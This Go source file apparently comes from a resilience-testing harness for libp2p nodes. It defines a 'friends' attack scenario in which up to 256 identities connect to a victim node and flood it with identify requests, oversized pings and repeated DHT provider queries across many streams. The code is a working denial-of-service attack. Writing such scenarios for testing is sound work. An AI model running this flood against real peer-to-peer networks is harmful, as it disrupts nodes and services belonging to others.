package attack

import (
	"context"
	"io"
	"slices"
	"strings"
	"sync"
	"time"

	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/p2p/protocol/identify"
	"github.com/libp2p/go-libp2p/p2p/protocol/ping"
)

// friends attacks as neighbours, who are not counted among strangers.
func friends() Scenario {
	return Scenario{
		Name: "friends", Daemons: true,
		About: "becomes a neighbour of the victim with as many of 256 identities as it can, which then ask without end who it is, send pings, or fill streams with what is not read",
		Run:   onField(plain, flooded("friends", 256, impose)),
	}
}

// impose becomes a neighbour, and then does one of three things on many streams, each of which
// the victim has to look at, until the connection is lost.
func impose(ctx context.Context, i int, s *stranger) {
	begin, victim := framed([]byte("/multistream/1.0.0\n")), s.field.victim()
	const window = 255 << 10
	table := string(tableProtocol(s.field.network))
	way := []struct {
		protocol string
		rest     string // after the protocol
		streams  int
		hold     time.Duration // 0: until the stream ends
	}{
		{identify.ID, "", 8, 0},
		{ping.ID, strings.Repeat("p", window), 30, 0},
		{table, strings.Repeat(string(whoProvides(make([]byte, 8<<10))), window/(8<<10)), 60, 15 * time.Second},
	}[i%3]
	text := slices.Concat(begin, framed([]byte(way.protocol+"\n")), []byte(way.rest))
	text = text[:min(len(text), window)]
	for ctx.Err() == nil {
		soon, stop := context.WithTimeout(ctx, 20*time.Second)
		_, err := s.befriend(soon, victim)
		stop()
		if err != nil {
			continue
		}
		var asking sync.WaitGroup
		for range way.streams {
			asking.Go(func() {
				for s.Network().Connectedness(victim.id) == network.Connected {
					stream, err := s.Network().NewStream(ctx, victim.id)
					if err != nil {
						return
					}
					_ = stream.SetDeadline(time.Now().Add(20 * time.Second))
					if _, err = stream.Write(text); err == nil && way.hold == 0 {
						_, _ = io.Copy(io.Discard, stream)
					}
					_ = rest(ctx, way.hold)
					_ = stream.Reset()
				}
			})
		}
		asking.Wait()
		_ = rest(ctx, refused)
	}
}
